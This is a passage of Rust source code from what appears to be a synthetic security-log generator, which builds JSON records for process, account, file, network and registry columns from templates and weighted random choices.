        w: &'w World,
        rng: ChaCha8Rng,
        salt: u64,
        report_base: u64,
        ts_style: TimeStyle,
    ) -> Self {
        Ctx {
            w,
            rng,
            salt,
            report_base,
            ts_style,
            ev: Event::default(),
            ascii: false,
            out: String::with_capacity(8 << 10),
            tmp: String::with_capacity(1 << 10),
            val: String::with_capacity(256),
            tpl_proc: None,
            cursor: (0, 0),
        }
    }

    fn build_props(&mut self, plan: &Plan) {
        let order = match self.rng.random_range(0..6) {
            0 | 1 => &plan.orders[0],
            2..=4 => &plan.orders[1],
            _ => &plan.orders[2],
        };
        self.out.clear();
        self.out.push('{');
        for &i in order {
            let col = &plan.cols[i];
            if self.out.len() > 1 {
                self.out.push(',');
            }
            self.out.push_str(&col.key);
            (col.build)(self);
        }
        self.out.push('}');
    }

    // ── value writers ──

    fn raw(&mut self, s: &str) {
        self.out.push_str(s);
    }

    fn null(&mut self) {
        self.out.push_str("null");
    }

    /// An empty string value: null or `""` (quirks D.8).
    fn empty(&mut self) {
        if self.rng.random_ratio(1, 5) {
            self.out.push_str("\"\"");
        } else {
            self.null();
        }
    }

    fn str(&mut self, s: &str) {
        push_json_str(&mut self.out, s, self.ascii);
    }

    fn opt(&mut self, s: Option<&str>) {
        match s {
            Some(s) => self.str(s),
            None => self.null(),
        }
    }

    /// A string, or null when empty.
    fn str_or_null(&mut self, s: &str) {
        if s.is_empty() {
            self.null()
        } else {
            self.str(s)
        }
    }

    fn int(&mut self, v: i64) {
        push_i64(&mut self.out, v);
    }

    fn uint(&mut self, v: u64) {
        push_u64(&mut self.out, v);
    }

    fn bool(&mut self, b: bool) {
        self.raw(if b { "true" } else { "false" });
    }

    fn time(&mut self, nanos: i64, style: TimeStyle) {
        self.out.push('"');
        push_time(&mut self.out, nanos, style);
        self.out.push('"');
    }

    fn guid(&mut self, hi: u64, lo: u64) {
        self.out.push('"');
        push_guid(&mut self.out, hi, lo, false);
        self.out.push('"');
    }

    fn hash(&mut self, key: u64, digits: usize) {
        self.out.push('"');
        push_hash(&mut self.out, key, digits);
        self.out.push('"');
    }

    /// A GUID unique to this record of this table.
    fn unique_guid(&mut self) {
        let seq = self.ev.seq;
        self.guid(mix64(seq ^ self.salt), hash2(self.salt, seq));
    }

    /// A strictly increasing per-table number (numeric `ReportId`s).
    fn counter(&self, stride: u64) -> u64 {
        self.report_base + self.ev.seq * stride + hash2(self.salt, self.ev.seq) % stride
    }

    /// Starts an object key inside a nested object or array (adds the comma).
    fn key(&mut self, k: &str) {
        self.sep();
        self.out.push('"');
        self.out.push_str(k);
        self.out.push_str("\":");
    }

    fn sep(&mut self) {
        if !matches!(self.out.as_bytes().last(), Some(b'{' | b'[' | b':') | None) {
            self.out.push(',');
        }
    }

    /// Writes what `f` writes as a JSON string holding that JSON (quirks D.1).
    fn stringified(&mut self, f: impl FnOnce(&mut Self)) {
        let start = self.out.len();
        f(self);
        let mut inner = std::mem::take(&mut self.tmp);
        inner.clear();
        inner.push_str(&self.out[start..]);
        self.out.truncate(start);
        push_json_str(&mut self.out, &inner, self.ascii);
        self.tmp = inner;
    }

    fn pick<T>(&mut self, items: &'static [(T, u16)]) -> &'static T {
        pick(&mut self.rng, items)
    }

    /// A weighted choice of raw JSON values.
    fn raw_of(&mut self, items: &'static [(&'static str, u16)]) {
        let v = *self.pick(items);
        self.raw(v);
    }

    fn random_guid(&mut self) {
        let (hi, lo) = (self.rng.random(), self.rng.random());
        self.guid(hi, lo);
    }

    fn word(&mut self, items: &'static [(&'static str, u16)]) -> &'static str {
        self.pick::<&str>(items)
    }

    fn lit(&mut self, items: &'static [(Option<&'static str>, u16)]) {
        let v = *self.pick(items);
        self.opt(v);
    }

    fn chance(&mut self, p: f64) -> bool {
        self.rng.random_bool(p)
    }

    // ── templates ──

    /// Expands `{{placeholder}}`s of a template into `dst`; with `json`, the
    /// values are JSON-escaped (the template is JSON text).
    fn expand(&mut self, dst: &mut String, template: &str, json: bool) {
        let mut rest = template;
        while let Some(open) = rest.find("{{") {
            dst.push_str(&rest[..open]);
            let after = &rest[open + 2..];
            let Some(close) = after.find("}}") else {
                dst.push_str(&rest[open..]);
                return;
            };
            let mut value = std::mem::take(&mut self.val);
            value.clear();
            self.placeholder(&after[..close], &mut value);
            if json {
                push_escaped(dst, &value, self.ascii);
            } else {
                dst.push_str(&value);
            }
            self.val = value;
            rest = &after[close + 2..];
        }
        dst.push_str(rest);
    }

    /// A template rendered as a JSON string value.
    fn render(&mut self, template: &str) {
        let mut text = std::mem::take(&mut self.tmp);
        text.clear();
        self.expand(&mut text, template, false);
        push_json_str(&mut self.out, &text, self.ascii);
        self.tmp = text;
    }

    /// A JSON template rendered as a native value, or as a string holding it.
    fn render_json(&mut self, template: &str, as_string: bool) {
        let mut text = std::mem::take(&mut self.tmp);
        text.clear();
        self.expand(&mut text, template, true);
        if as_string {
            push_json_str(&mut self.out, &text, self.ascii);
        } else {
            self.out.push_str(&text);
        }
        self.tmp = text;
    }

    /// A path: a directory template (only `{{user}}`), a separator and a name.
    fn path(&mut self, dir: &str, name: &str, lower: bool) {
        let mut text = std::mem::take(&mut self.tmp);
        text.clear();
        let user = self.home_user();
        push_dir(&mut text, dir, &self.w.users[user].name);
        if !text.is_empty() {
            text.push(if text.starts_with('/') { '/' } else { '\\' });
        }
        text.push_str(name);
        if lower {
            text.make_ascii_lowercase();
        }
        push_json_str(&mut self.out, &text, self.ascii);
        self.tmp = text;
    }

    fn placeholder(&mut self, key: &str, v: &mut String) {
        let w = self.w;
        match key {
            "user" => v.push_str(&w.users[self.home_user()].name),
            "usersid" => {
                let u = &w.users[self.home_user()];
                v.push_str(u.sid.as_deref().unwrap_or("S-1-5-18"));
            }
            "host" => v.push_str(self.device_name()),
            "HOST" => v.push_str(&self.device_name().to_ascii_uppercase()),
            "dc" => {
                let dc = match self.ev.peer {
                    Some(p) if w.devices[p as usize].role == Role::Dc => p as usize,
                    _ => w.dcs[self.rng.random_range(0..w.dcs.len())],
                };
                v.push_str(&w.devices[dc].name);
            }
            "ip" => {
                let d = self.rng.random_range(0..w.devices.len());
                v.push_str(&w.devices[d].ip);
            }
            "web" => {
                let e = w.ep_pools[EpCat::Web as usize].sample(&mut self.rng);
                v.push_str(w.endpoints[e].host.unwrap_or("www.bing.com"));
            }
            "evil" | "evilip" => {
                let e = &w.endpoints[w.ep_pools[EpCat::Bad as usize].sample(&mut self.rng)];
                v.push_str(e.host.filter(|_| key == "evil").unwrap_or(&e.ip));
            }
            "rhost" | "rip" => match self.ev.net.and_then(|n| n.remote) {
                Some(r) => {
                    let e = &w.endpoints[r as usize];
                    v.push_str(e.host.filter(|_| key == "rhost").unwrap_or(&e.ip));
                }
                None => v.push_str("login.microsoftonline.com"),
            },
            "file" => match self.ev.file {
                Some(f) => v.push_str(self.file_view(f).name),
                None => v.push_str("document.docx"),
            },
            "self" => {
                let p = self.tpl_proc.unwrap_or_default();
                let spec = w.procs[p.spec as usize].spec;
                push_dir(v, spec.dir, &w.users[self.home_user()].name);
                v.push('\\');
                v.push_str(spec.name);
            }
            "tuser" => {
                let u = self.ev.accts[TARGET_ACCOUNT].map_or(self.home_user(), usize::from);
                v.push_str(&w.users[u].name);
            }
            "acct" => v.push_str(&w.users[self.actor()].name),
            "acctsid" => {
                let u = self.actor();
                v.push_str(w.users[u].sid.as_deref().unwrap_or("S-1-5-21-0-0-0-0"));
            }
            "uid" => {
                let u = self.actor();
                let uid = if w.users[u].kind == UserKind::Root {
                    0
                } else {
                    501 + u % 400
                };
                push_u64(v, uid as u64);
            }
            "guid" | "GUID" => push_guid(v, self.rng.random(), self.rng.random(), key == "GUID"),
            "b64" => v.push_str(&w.payloads[self.rng.random_range(0..w.payloads.len())]),
            "doc" => v.push_str(self.word(DOC_NAMES)),
            // One task per record: its name and command agree wherever they appear.
            "task" | "taskcmd" => {
                let (name, command) = pick_at(TASKS, hash2(self.salt, self.ev.seq));
                v.push_str(if key == "task" { name } else { command });
            }
            "threat" => v.push_str(self.word(THREAT_NAMES)),
            "pscmd" => v.push_str(self.word(PS_CMDLETS)),
            "pipe" => {
                // Pipe names hold numbers of their own.
                let name = self.word(PIPE_NAMES);
                self.expand(v, name, false);
            }
            "svc" => v.push_str(self.word(SERVICE_NAMES)),
            "script" => self.script(v),
            "date" => push_time(v, self.ev.ts, ENVELOPE_TIME),
            _ => {
                // hexN / HEXN / nN: N random hex or decimal digits.
                let (digits, hex, upper) = if let Some(n) = key.strip_prefix("hex") {
                    (n, true, false)
                } else if let Some(n) = key.strip_prefix("HEX") {
                    (n, true, true)
                } else {
                    (key.strip_prefix('n').unwrap_or("4"), false, false)
                };
                let Ok(mut left) = digits.parse::<usize>() else {
                    debug_assert!(false, "unknown template placeholder {key:?}");
                    return;
                };
                let start = v.len();
                while left > 0 {
                    let n = left.min(16);
                    let r: u64 = self.rng.random();
                    if hex {
                        push_hex(v, r, n, upper);
                    } else {
                        push_padded(v, r, n);
                    }
                    left -= n;
                }
                // Decimal numbers never start with 0 (they may be JSON numbers).
                if !hex && v[start..].starts_with('0') {
                    let digit = char::from(b'1' + self.rng.random_range(0..9u8));
                    v.replace_range(start..=start, digit.encode_utf8(&mut [0; 4]));
                }
            }
        }
    }

    /// A whole PowerShell script (DeviceEvents `ScriptContent`, quirks A.7):
    /// usually short, now and then many kilobytes.
    fn script(&mut self, v: &mut String) {
        let target = if self.chance(0.1) {
            self.rng.random_range(4_000..16_000)
        } else {
            self.rng.random_range(200..1_500)
        };
        while v.len() < target {
            v.push_str(self.word(SCRIPT_LINES));
            v.push_str("\r\n");
        }
    }

    // ── entities ──

    fn device(&self) -> Option<&'w Device> {
        self.ev.device.map(|d| &self.w.devices[d as usize])
    }

    fn device_name(&self) -> &'w str {
        self.device().map_or("localhost", |d| d.name.as_str())
    }

    fn spec(&self, p: ProcInst) -> &'static ProcSpec {
        self.w.procs[p.spec as usize].spec
    }

    /// The user a template's `{{user}}` means: the process's (or the event's)
    /// person, else the device's primary user.
    fn home_user(&self) -> usize {
        let candidates = [
            self.tpl_proc.map(|p| p.user),
            self.ev.accts[SUBJECT],
            self.ev.accts[INIT],
        ];
        candidates
            .into_iter()
            .flatten()
            .map(usize::from)
            .find(|&u| matches!(self.w.users[u].kind, UserKind::Person | UserKind::Admin))
            .or_else(|| self.device().map(|d| usize::from(d.user)))
            .unwrap_or(self.w.persons.start)
    }

    /// The account the record is about: its subject, else the initiating
    /// process's account.
    fn actor(&self) -> usize {
        self.ev.accts[SUBJECT]
            .or(self.ev.accts[INIT])
            .map_or(self.w.persons.start, usize::from)
    }

    fn file_view(&self, f: FileRef) -> FileView<'w> {
        let w = self.w;
        match f {
            FileRef::Proc(p) => {
                let info = &w.procs[p as usize];
                FileView {
                    name: info.spec.name,
                    dir: info.spec.dir,
                    hashes: &info.hashes,
                    size: u64::from(info.spec.size),
                }
            }
            FileRef::Pool(i) => {
                let f = &w.files[i as usize];
                FileView {
                    name: &f.name,
                    dir: &f.dir,
                    hashes: &f.hashes,
                    size: f.size,
                }
            }
            FileRef::Dll(i) => {
                let d = &w.dlls[i as usize];
                FileView {
                    name: d.spec.name,
                    dir: d.spec.dir,
                    hashes: &d.hashes,
                    size: u64::from(d.spec.size),
                }
            }
        }
    }

    /// Whether an account is local to the device (root, people on Linux/macOS).
    fn is_local_account(&self, u: &User) -> bool {
        u.kind == UserKind::Root
            || (u.kind == UserKind::Person && self.device().is_some_and(|d| !d.role.is_windows()))
    }
}

/// Writes a directory template, substituting `{{user}}`.
fn push_dir(out: &mut String, dir: &str, user: &str) {
    let mut parts = dir.split("{{user}}");
    if let Some(first) = parts.next() {
        out.push_str(first);
    }
    for part in parts {
        out.push_str(user);
        out.push_str(part);
    }
}

/// A file's name, directory template, hashes and size, wherever it comes from.
struct FileView<'w> {
    name: &'w str,
    dir: &'w str,
    hashes: &'w Hashes,
    size: u64,
}

// ─────────────────────────── columns → builders ───────────────────────────

/// Writes one column's value for the current record.
type Gen = Box<dyn Fn(&mut Ctx<'_>)>;

fn g(f: impl Fn(&mut Ctx<'_>) + 'static) -> Gen {
    Box::new(f)
}

/// A weighted choice of strings (None = null).
fn lit(items: &'static [(Option<&'static str>, u16)]) -> Gen {
    g(move |c| c.lit(items))
}

/// A weighted choice of raw JSON values (`null`, `true`, `"\"[]\""` ...).
fn raw(items: &'static [(&'static str, u16)]) -> Gen {
    g(move |c| c.raw_of(items))
}

fn text(s: &'static str) -> Gen {
    g(move |c| c.str(s))
}

/// Null or `""`.
fn nothing() -> Gen {
    g(|c| c.empty())
}

/// Applies `f` to what `get` finds in the record; writes an empty value
/// (null or `""` when `stringy`) when it finds nothing.
fn when<T: Copy + 'static>(
    get: impl Fn(&Event) -> Option<T> + 'static,
    stringy: bool,
    f: impl Fn(&mut Ctx<'_>, T) + 'static,
) -> Gen {
    g(move |c| match get(&c.ev) {
        Some(v) => f(c, v),
        None if stringy => c.empty(),
        None => c.null(),
    })
}

/// A column of the record's device.
fn device_col(f: impl Fn(&mut Ctx<'_>, &Device) + 'static) -> Gen {
    when(
        |e| e.device,
        true,
        move |c, d| {
            let w = c.w;
            f(c, &w.devices[d as usize]);
        },
    )
}

/// One column and its builder.
struct PlanCol {
    name: String,
    /// `"Name":`, pre-encoded.
    key: String,
    build: Gen,
}

/// A table's columns and the key orders its records use (quirks E.4:
/// `Timestamp` first in about a third of the records, among the last three
/// in about half).
struct Plan {
    cols: Vec<PlanCol>,
    orders: [Vec<usize>; 3],
}

impl Plan {
    fn build(schema: &TableSchema, kind: TableKind, rng: &mut ChaCha8Rng) -> Plan {
        let mut cols: Vec<PlanCol> = schema
            .columns
            .iter()
            .map(|c| PlanCol::new(&c.name, kind, Some(c)))
            .collect();
        for extra in kind.extra_columns() {
            if !cols.iter().any(|c| c.name == *extra) {
                cols.push(PlanCol::new(extra, kind, None));
            }
        }
        // Every record must be unique: a table without an identifier column gets one.
        if !cols
            .iter()
            .any(|c| c.name == "ReportId" || c.name == "AlertId")
        {
            cols.push(PlanCol::new("ReportId", kind, None));
        }
        let n = cols.len();
        let ts = cols.iter().position(|c| c.name == "Timestamp");
        let mut first: Vec<usize> = (0..n).collect();
        let mut late = first.clone();
        let mut middle = first.clone();
        late.shuffle(rng);
        middle.shuffle(rng);
        if let Some(ts) = ts {
            place(&mut first, ts, 0);
            let from_end = rng.random_range(0..3);
            place(&mut late, ts, n.saturating_sub(1 + from_end));
            place(&mut middle, ts, n / 2);
        }
        Plan {
            cols,
            orders: [first, late, middle],
        }
    }
}

/// Moves `item` to position `pos` of `order`.
fn place(order: &mut Vec<usize>, item: usize, pos: usize) {
    if let Some(i) = order.iter().position(|&x| x == item) {
        order.remove(i);
        order.insert(pos.min(order.len()), item);
    }
}

impl PlanCol {
    fn new(name: &str, kind: TableKind, col: Option<&Column>) -> PlanCol {
        let build = kind
            .columns(name)
            .or_else(|| shared_column(name, col))
            .unwrap_or_else(|| fallback_column(col));
        PlanCol {
            name: name.to_string(),
            key: format!("{}:", json_string(name)),
            build,
        }
    }
}

/// Columns that mean the same in every table.
fn shared_column(name: &str, col: Option<&Column>) -> Option<Gen> {
    if let Some(build) = proc_column(name)
        .or_else(|| account_column(name))
        .or_else(|| file_column(name))
        .or_else(|| net_column(name))
        .or_else(|| registry_column(name))
    {
        return Some(build);
    }
    Some(match name {
        "Timestamp" => g(|c| {
            let (ts, style) = (c.ev.ts, c.ts_style);
            c.time(ts, style);
        }),
        "DeviceId" => device_col(|c, d| c.str(&d.id)),
        "DeviceName" => device_col(|c, d| c.str(&d.name)),
        "MachineGroup" => device_col(|c, d| c.opt(d.group)),
        "ActionType" => g(|c| {
            let a = c.ev.action;
            c.str_or_null(a);
        }),
        "AppGuardContainerId" => nothing(),
        // The logon session of the subject: the process running as the subject.
        "LogonId" => when(
            |e| {
                [e.procs[TARGET], e.procs[INIT]]
                    .into_iter()
                    .flatten()
                    .find(|p| Some(p.user) == e.accts[SUBJECT])
            },
            false,
            |c, p| {
                let id = c.logon_id(p);
                c.uint(id);
            },
        ),
        "FileOriginUrl" => when(
            |e| e.origin,
            true,
            |c, u| {
                let url = &c.w.urls[u as usize].url;
                c.str(url);
            },
        ),
        "FileOriginReferrerUrl" => when(
            |e| e.origin,
            true,
            |c, u| {
                let domain = &c.w.urls[u as usize].domain;
                if c.chance(0.3) {
                    c.empty();
                } else {
                    c.str(&format!("https://{domain}/"));
                }
            },
        ),
        "FileOriginIP" => when(
            |e| e.origin,
            true,
            |c, u| {
                let ip = &c.w.urls[u as usize].ip;
                c.str(ip);
            },
        ),
        "ReportId" if col.is_none_or(|c| c.kind == Kind::Int) => g(|c| {
            let v = c.counter(7);
            c.uint(v);
        }),
        "ReportId" => g(|c| c.unique_guid()),
        _ => return None,
    })
}

/// Columns nobody told us about: a plausible value of the column's kind.
fn fallback_column(col: Option<&Column>) -> Gen {
    let Some(col) = col else {
        return g(|c| c.null());
    };
    match col.kind {
        Kind::Date => g(|c| {
            let t = c.ev.ts - c.rng.random_range(0..HOUR);
            let style = c.ts_style;
            c.time(t, style);
        }),
        Kind::Int => g(|c| {
            if c.chance(0.2) {
                c.null();
            } else {
                let v = c.rng.random_range(0..5_000);
                c.int(v);
            }
        }),
        Kind::Bool => raw(&[("false", 6), ("true", 2), ("null", 2)]),
        Kind::Dynamic if col.source_type == "dynamic" => raw(&[("null", 4), ("{}", 2), ("[]", 2)]),
        Kind::Dynamic => raw(&[("null", 4), (r#""{}""#, 2), (r#""[]""#, 1)]),
        Kind::Text | Kind::Keyword => g(|c| {
            if c.chance(0.5) {
                c.empty();
            } else {
                let v = *c.pick(FILLER_WORDS);
                c.str(v);
            }
        }),
    }
}

// ─────────────────────── processes, accounts, files ───────────────────────

/// `InitiatingProcessParent*`, `InitiatingProcess*`, `Process*` columns.
fn proc_column(name: &str) -> Option<Gen> {
    let (role, attr) = match name {
        "IsInitiatingProcessRemoteSession" => (INIT, "IsRemoteSession"),
        "IsProcessRemoteSession" => (TARGET, "IsRemoteSession"),
        "CreatedProcessSessionId" => (TARGET, "SessionId"),
        _ if name.starts_with("InitiatingProcessAccount") => return None,
        _ => {
            if let Some(attr) = name.strip_prefix("InitiatingProcessParent") {
                (PARENT, attr)
            } else if let Some(attr) = name.strip_prefix("InitiatingProcess") {
                (INIT, attr)
            } else if let Some(attr) = name.strip_prefix("Process") {
                (TARGET, attr)
            } else {
                return None;
            }
        }
    };
    let get = move |e: &Event| e.procs[role];
    let version = move |field: fn(&Ver) -> &'static str| {
        when(get, true, move |c, p| {
            let v = field(&c.spec(p).ver);
            c.str_or_null(v);
        })
    };
    Some(match attr {
        "FileName" => when(get, true, |c, p| {
            let name = c.spec(p).name;
            c.str(name);
        }),
        "FolderPath" => when(get, true, move |c, p| {
            let spec = c.spec(p);
            c.path(spec.dir, spec.name, role == INIT);
        }),
        "SHA1" => when(get, true, |c, p| {
            let w = c.w;
            c.str(&w.procs[p.spec as usize].hashes.sha1);
        }),
        "SHA256" => when(get, true, |c, p| {
            let w = c.w;
            c.str(&w.procs[p.spec as usize].hashes.sha256);
        }),
        "MD5" => when(get, true, |c, p| {
            let w = c.w;
            c.str(&w.procs[p.spec as usize].hashes.md5);
        }),
        "FileSize" => when(get, false, |c, p| {
            let size = c.spec(p).size;
            c.uint(u64::from(size));
        }),
        "VersionInfoCompanyName" => version(|v| v.company),
        "VersionInfoProductName" => version(|v| v.product),
        "VersionInfoProductVersion" => version(|v| v.version),
        "VersionInfoInternalFileName" | "VersionInfoOriginalFileName" => version(|v| v.original),
        "VersionInfoFileDescription" => version(|v| v.description),
        "Id" => when(get, false, |c, p| c.uint(u64::from(p.pid))),
        "CommandLine" => when(get, true, |c, p| c.command_line(p)),
        "CreationTime" => when(get, false, move |c, p| {
            let style = match role {
                TARGET => c.ts_style,
                INIT => ENVELOPE_TIME,
                _ => TRIMMED_TIME,
            };
            c.time(p.created, style);
        }),
        "IntegrityLevel" => when(get, true, |c, p| {
            let v = c.integrity(p);
            c.opt(v);
        }),
        "TokenElevation" => when(get, true, |c, p| {
            let v = c.elevation(p);
            c.str(v);
        }),
        "LogonId" => when(get, false, |c, p| {
            let id = c.logon_id(p);
            c.uint(id);
        }),
        "SessionId" => when(get, false, |c, p| match c.session_id(p) {
            Some(s) => c.uint(s),
            None => c.null(),
        }),
        "UniqueId" => when(get, true, |c, p| {
            if c.device().is_some_and(|d| d.role == Role::Mac) {
                c.str("0");
            } else {
                let id = 10_000_000_000_000_000 + (p.key >> 4) % 90_000_000_000_000_000;
                c.out.push('"');
                c.uint(id);
                c.out.push('"');
            }
        }),
        "SignerType" => when(get, true, |c, p| {
            let v = c.signer_type(p).0;
            c.opt(v);
        }),
        "SignatureStatus" => when(get, true, |c, p| {
            let v = c.signer_type(p).1;
            c.str(v);
        }),
        "IsRemoteSession" => when(get, false, |c, p| {
            let remote = c.remote_session(p).is_some();
            c.bool(remote);
        }),
        "RemoteSessionDeviceName" => when(get, true, |c, p| match c.remote_session(p) {
            Some(d) => {
                let w = c.w;
                c.str(&w.devices[d].name.to_ascii_uppercase());
            }
            None => c.null(),
        }),
        "RemoteSessionIP" => when(get, true, |c, p| match c.remote_session(p) {
            Some(d) => {
                let w = c.w;
                c.str(&w.devices[d].ip);
            }
            None => c.null(),
        }),
        _ => return None,
    })
}

/// `Account*`, `InitiatingProcessAccount*`, `RequestAccount*`, `TargetAccount*`.
fn account_column(name: &str) -> Option<Gen> {
    let (role, attr) = if let Some(attr) = name.strip_prefix("InitiatingProcessAccount") {
        (INIT, attr)
    } else if let Some(attr) = name.strip_prefix("RequestAccount") {
        (REQUEST, attr)
    } else if let Some(attr) = name.strip_prefix("TargetAccount") {
        (TARGET_ACCOUNT, attr)
    } else if let Some(attr) = name.strip_prefix("Account") {
        (SUBJECT, attr)
    } else {
        return None;
    };
    let get = move |e: &Event| e.accts[role];
    // Request accounts are written in upper case (`SYSTEM`, `NT AUTHORITY`).
    let upper = role == REQUEST;
    Some(match attr {
        "Name" => when(get, true, move |c, u| {
            let w = c.w;
            let user = &w.users[u as usize];
            if upper && user.kind == UserKind::Builtin {
                c.str(&user.name.to_ascii_uppercase());
            } else {
                c.str(&user.name);
            }
        }),
        "Domain" => when(get, true, move |c, u| {
            let domain = c.account_domain(u);
            if upper {
                c.str(&domain.to_ascii_uppercase());
            } else {
                c.str(domain);
            }
        }),
        "Sid" => when(get, true, |c, u| c.account_sid(u)),
        "Upn" => when(get, true, |c, u| {
            let w = c.w;
            let user = &w.users[u as usize];
            if c.is_local_account(user) {
                c.null()
            } else {
                c.opt(user.upn.as_deref())
            }
        }),
        "ObjectId" | "Id" => when(get, true, |c, u| {
            let w = c.w;
            let user = &w.users[u as usize];
            if c.is_local_account(user) {
                c.null()
            } else {
                c.opt(user.object_id.as_deref())
            }
        }),
        "DisplayName" => when(get, true, |c, u| {
            let w = c.w;
            c.str(&w.users[u as usize].display);
        }),
        _ => return None,
    })
}

/// `FileName`, `FolderPath`, hashes and size of the record's file.
fn file_column(name: &str) -> Option<Gen> {
    let get = |e: &Event| e.file;
    Some(match name {
        "FileName" => when(get, true, |c, f| {
            let v = c.file_view(f);
            c.str(v.name);
        }),
        "FolderPath" => when(get, true, |c, f| {
            let v = c.file_view(f);
            c.path(v.dir, v.name, false);
        }),
        "SHA1" => when(get, true, |c, f| {
            let v = c.file_view(f);
            c.str(&v.hashes.sha1);
        }),
        "SHA256" => when(get, true, |c, f| {
            let v = c.file_view(f);
            c.str(&v.hashes.sha256);
        }),
        "MD5" => when(get, true, |c, f| {
            let v = c.file_view(f);
            c.str(&v.hashes.md5);
        }),
        "FileSize" => when(get, false, |c, f| {
            let v = c.file_view(f);
            c.uint(v.size);
        }),
        _ => return None,
    })
}

/// Local and remote ends of the record's connection.
fn net_column(name: &str) -> Option<Gen> {
    let get = |e: &Event| e.net;
    let remote = |e: &Event| e.net.and_then(|n| n.remote);
    Some(match name {
        "RemoteIP" => when(remote, true, |c, r| {
            let w = c.w;
            c.str(&w.endpoints[r as usize].ip);
        }),
        "RemotePort" => when(get, false, |c, n| match n.remote_port {
            0 => c.null(),
            p => c.uint(u64::from(p)),
        }),
        "LocalPort" => when(get, false, |c, n| match n.local_port {
            0 => c.null(),
            p => c.uint(u64::from(p)),
        }),
        "RemoteUrl" => when(get, true, |c, n| {
            let w = c.w;
            match (n.url, n.remote.and_then(|r| w.endpoints[r as usize].host)) {
                (Some(u), _) => c.str(&w.urls[u as usize].url),
                (None, Some(host)) if !c.chance(0.08) => c.str(host),
                _ => c.empty(),
            }
        }),
        "RemoteDeviceName" => when(remote, true, |c, r| {
            let w = c.w;
            match w.endpoints[r as usize].device {
                Some(d) => c.str(&w.devices[d as usize].name),
                None => c.empty(),
            }
        }),
        "RemoteIPType" => when(remote, true, |c, r| {
            let w = c.w;
            let kind = match w.endpoints[r as usize].cat {
                EpCat::Internal | EpCat::Client => "Private",
                _ => "Public",
            };
            c.str(kind);
        }),
        "LocalIP" => when(get, true, |c, _| match c.device() {
            Some(d) => c.str(&d.ip),
            None => c.empty(),
        }),
        "LocalIPType" => when(get, true, |c, _| c.str("Private")),
        "Protocol" => when(get, true, |c, n| c.str(if n.udp { "Udp" } else { "Tcp" })),
        _ => return None,
    })
}

/// `Registry*` and `PreviousRegistry*` of the record's registry change.
fn registry_column(name: &str) -> Option<Gen> {
    let get = |e: &Event| e.reg.map(|r| (r, e.action.contains("Key"), e.previous));
    Some(match name {
        "RegistryKey" => when(get, true, |c, (r, ..)| c.render(REGISTRY[r as usize].key)),
        "RegistryValueName" => when(get, true, |c, (r, key_only, _)| {
            if key_only {
                c.raw("\"\"")
            } else {
                c.render(REGISTRY[r as usize].value)
            }
        }),
        "RegistryValueType" => when(get, true, |c, (r, key_only, _)| {
            if key_only {
                c.str("None")
            } else {
                c.str(REGISTRY[r as usize].kind)
            }
        }),
        "RegistryValueData" => when(get, true, |c, (r, key_only, _)| {
            if key_only {
                c.raw("\"\"")
            } else {
                c.render(REGISTRY[r as usize].data)
            }
        }),
        "PreviousRegistryKey" => when(get, true, |c, (r, _, previous)| {
            if previous {
                c.render(REGISTRY[r as usize].key)
            } else {
                c.raw("\"\"")
            }
        }),
        "PreviousRegistryValueName" => when(get, true, |c, (r, _, previous)| {
            if previous {
                c.render(REGISTRY[r as usize].value)
            } else {
                c.raw("\"\"")
            }
        }),
        "PreviousRegistryValueData" => when(get, true, |c, (r, _, previous)| {
            if previous {
                c.render(REGISTRY[r as usize].previous)
            } else {
                c.raw("\"\"")
            }
        }),
        _ => return None,
    })
}

impl<'w> Ctx<'w> {
    // ── choosing entities ──

    fn pick_device(&mut self, windows_only: bool) -> u16 {
        let pool = if windows_only {
            &self.w.windows_devices
        } else {
            &self.w.all_devices
        };
        pool.sample(&mut self.rng) as u16
    }

    fn pick_person(&mut self) -> u16 {
        self.w.person_pool.sample(&mut self.rng) as u16
    }

    /// A process of the catalogue that does `act` on a device of `role`.
    fn pick_proc(&mut self, dev: u16, act: Act) -> u16 {
        let role = self.w.devices[dev as usize].role;
        let pool = &self.w.proc_pools[role as usize][act as usize];
        let pool = if pool.is_empty() {
            &self.w.proc_pools[role as usize][Act::Spawn as usize]
        } else {
            pool
        };
        pool.sample(&mut self.rng) as u16
    }

    /// The catalogue process named `name` if it runs on the device, else one
    /// that does `act` there.
    fn proc_named(&mut self, dev: u16, name: &str, act: Act) -> u16 {
        let role = self.w.devices[dev as usize].role;
        match self.w.proc_by_name(name, role) {
            Some(p) => p,
            None => self.pick_proc(dev, act),
        }
    }

    fn parent_of(&mut self, spec: u16, dev: u16) -> u16 {
        let w = self.w;
        let role = w.devices[dev as usize].role;
        let parents = &w.procs[spec as usize].parents;
        let total: u32 = parents
            .iter()
            .filter(|(p, _)| w.procs[*p as usize].spec.hosts & role.bit() != 0)
            .map(|(_, wt)| u32::from(*wt))
            .sum();
        if total > 0 {
            let mut x = self.rng.random_range(0..total);
            for &(p, wt) in parents {
                if w.procs[p as usize].spec.hosts & role.bit() == 0 {
                    continue;
                }
                if x < u32::from(wt) {
                    return p;
                }
                x -= u32::from(wt);
            }
        }
        w.root_proc(role)
    }

    /// The account a process runs as on a device.
    fn run_user(&mut self, spec: u16, dev: u16, inherited: Option<u16>) -> u16 {
        let w = self.w;
        let device = &w.devices[dev as usize];
        match w.procs[spec as usize].spec.run_as {
            RunAs::System => SYSTEM,
            RunAs::NetworkService => NETWORK_SERVICE,
            RunAs::Root => ROOT,
            RunAs::Account(name) => w.user_by_name(name).unwrap_or(SYSTEM),
            RunAs::Inherit if inherited.is_some() => inherited.unwrap_or(SYSTEM),
            RunAs::User | RunAs::Inherit => match device.role {
                Role::Linux if self.chance(0.3) => ROOT,
                Role::Linux => (w.admins.start + self.rng.random_range(0..w.admins.len())) as u16,
                r if r.is_server() => {
                    if self.chance(0.7) {
                        (w.admins.start + self.rng.random_range(0..w.admins.len())) as u16
                    } else {
                        (w.services.start + self.rng.random_range(0..w.services.len())) as u16
                    }
                }
                _ if self.chance(0.95) => device.user,
                _ => self.pick_person(),
            },
        }
    }

    /// A long-running process instance: the same device, process and period
    /// give the same pid, creation time and unique id across records.
    fn stable_proc(&mut self, spec: u16, dev: u16, user: u16) -> ProcInst {
        let life = match self.w.procs[spec as usize].spec.run_as {
            RunAs::User => 6 * HOUR,
            RunAs::Inherit => HOUR,
            _ => 48 * HOUR,
        };
        let epoch = self.ev.ts.div_euclid(life);
        let key = hash3(
            u64::from(dev) << 32 | u64::from(spec),
            epoch as u64,
            u64::from(user) ^ self.w.seed,
        );
        let created = epoch * life - 1_000_000 - (key % life as u64) as i64;
        ProcInst {
            spec,
            pid: self.pid(spec, dev, key),
            created: created - created.rem_euclid(100),
            key,
            user,
        }
    }

